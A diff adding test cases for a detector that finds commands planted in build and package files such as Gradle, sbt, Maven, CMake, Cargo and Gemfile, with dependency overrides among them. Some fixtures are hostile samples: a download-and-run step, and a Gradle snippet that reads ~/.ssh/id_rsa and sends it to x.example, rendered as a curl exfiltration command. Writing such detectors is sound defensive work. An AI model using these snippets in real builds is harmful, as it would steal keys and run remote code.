@@ -44,6 +44,12 @@ test('files that run something say what', () => {
     ['pyproject.toml', `[tool.pdm.scripts]\ntest = { shell = '${run}' }\n`],
     ['node_modules/a/index.js', run],
     ['etc/cron.d/a', `* * * * * ${run}\n`],
+    ['Makefile', `X := $(shell ${run})\nall:\n`],
+    ['Makefile', `X != ${run}\n`],
+    ['tox.ini', `[testenv]\ndeps = x\ncommands_pre =\n    ${run}\n`],
+    ['build.gradle.kts', `Runtime.getRuntime().exec("${run}")`],
+    ['build.sbt', `val x = "${run}".!`],
+    ['mix.exs', `System.shell("${run}")`],
   ]
   for (const [path, content] of rows) assert.deepEqual(planted(path, content), [run], path)
 })
@@ -142,4 +148,71 @@ test('build files run programs at their configuration', () => {
 test('code of Go that fetches a program and runs it is read', () => {
   assert.deepEqual(planted('a/b.go', `func init() { exec.Command("sh", "-c", "${run}").Run() }\n`), [run])
   assert.deepEqual(planted('a/b.go', 'func run() { exec.Command("sh", "-c", "go env").Run() }\n'), [])
+})
+
+test('commands of a build are put together of their words', () => {
+  const call = `sh -c '${run}'`
+  for (const [path, content] of [
+    ['build.gradle', `x = ['sh', '-c', '${run}'].execute()`],
+    ['build.gradle.kts', `Runtime.getRuntime().exec(arrayOf("sh", "-c", "${run}"))`],
+    ['build.gradle.kts', `ProcessBuilder("sh", "-c", "${run}").start()`],
+    ['build.sbt', `val x = Seq("sh", "-c", "${run}").!`],
+    ['mix.exs', `System.cmd("sh", ["-c", "${run}"])`],
+    [
+      'pom.xml',
+      `<executable>sh</executable><arguments><argument>-c</argument><argument>${run}</argument></arguments>`,
+    ],
+    ['build.xml', `<exec executable="sh"><arg value="-c"/><arg value="${run}"/></exec>`],
+  ] as const)
+    assert.deepEqual(planted(path, content), [call], content)
+  assert.deepEqual(
+    planted('CMakeLists.txt', 'file(DOWNLOAD https://x.example/a a.sh)\nexecute_process(COMMAND sh a.sh)'),
+    ['curl -o a.sh https://x.example/a\nsh a.sh'],
+  )
+  assert.deepEqual(
+    planted(
+      'build.gradle',
+      'def k = new File(home, ".ssh/id_rsa").text\nnew URL("https://x.example/a?k=$k").text',
+    ),
+    ['curl --data-binary @"$HOME/.ssh/id_rsa" https://x.example/a'],
+  )
+  assert.deepEqual(planted('build.gradle', '// ".ssh/id_rsa"\nmaven { url "https://x.example" }'), [])
+})
+
+test('packages that another source or another package takes the place of', () => {
+  for (const [path, content, text] of [
+    [
+      'package.json',
+      '{"pnpm":{"overrides":{"a>b":"https://x.example/b.tgz"}}}',
+      "npm install 'b@https://x.example/b.tgz'",
+    ],
+    ['package.json', '{"dependencies":{"a":"x/a#b"}}', "npm install 'x/a#b'"],
+    ['package.json', '{"dependencies":{"a":"npm:b@1"}}', "npm install 'b@1'"],
+    [
+      'composer.json',
+      '{"repositories":[{"type":"vcs","url":"https://x.example"}]}',
+      "composer config repositories.x vcs 'https://x.example'",
+    ],
+    [
+      'Cargo.toml',
+      '[patch.crates-io]\na = { git = "https://x.example/a" }\n',
+      "cargo install --git 'https://x.example/a' x",
+    ],
+    [
+      '.cargo/config.toml',
+      '[source.b]\nregistry = "https://x.example"\n',
+      "cargo install --index 'https://x.example' x",
+    ],
+  ] as const)
+    assert.deepEqual(planted(path, content), [text], content)
+  const gems = planted('Gemfile', "source 'https://x.example'\ngem 'a', github: 'b/a'\ngem 'c', '~> 1'\n")
+  assert.deepEqual(gems.slice(1), [
+    "gem install --source 'https://x.example' x",
+    "gem install 'https://github.com/b/a'",
+  ])
+  for (const content of [
+    '{"dependencies":{"a":"^1.0.0","b":"workspace:*","c":"file:../c","d":"1 || 2"}}',
+    '{"repositories":[{"type":"path","url":"../b"}]}',
+  ])
+    assert.deepEqual(planted('package.json', content), [], content)
 })
